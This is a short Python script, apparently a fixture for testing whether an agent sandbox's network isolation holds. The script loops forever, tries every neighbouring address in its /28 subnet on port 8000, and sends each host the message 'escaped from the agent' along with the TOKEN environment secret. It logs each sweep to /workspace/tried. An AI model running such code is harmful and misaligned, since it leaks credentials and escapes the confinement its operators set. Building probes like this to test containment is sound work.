# An agent that tries from its first moment to reach every address of its network
# at port 8000, and goes on. It keeps a line of each time that it has tried all.
import ipaddress, os, socket, sys, threading, time

if sys.argv[1:2] == ["--version"]:
    print("1.0.0 (restless)")
    sys.exit()

def attempt(address):
    try:
        s = socket.create_connection((address, 8000), 1)
        s.sendall(b"escaped from the agent " + os.environ["TOKEN"].encode())
        s.recv(10)
        s.close()
    except OSError:
        pass

while True:
    own = socket.gethostbyname(socket.gethostname())
    threads = [threading.Thread(target=attempt, args=(str(a),)) for a in ipaddress.ip_network(own + "/28", strict=False).hosts() if str(a) != own]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    with open("/workspace/tried", "a") as f:
        print(own, file=f)
    time.sleep(0.05)
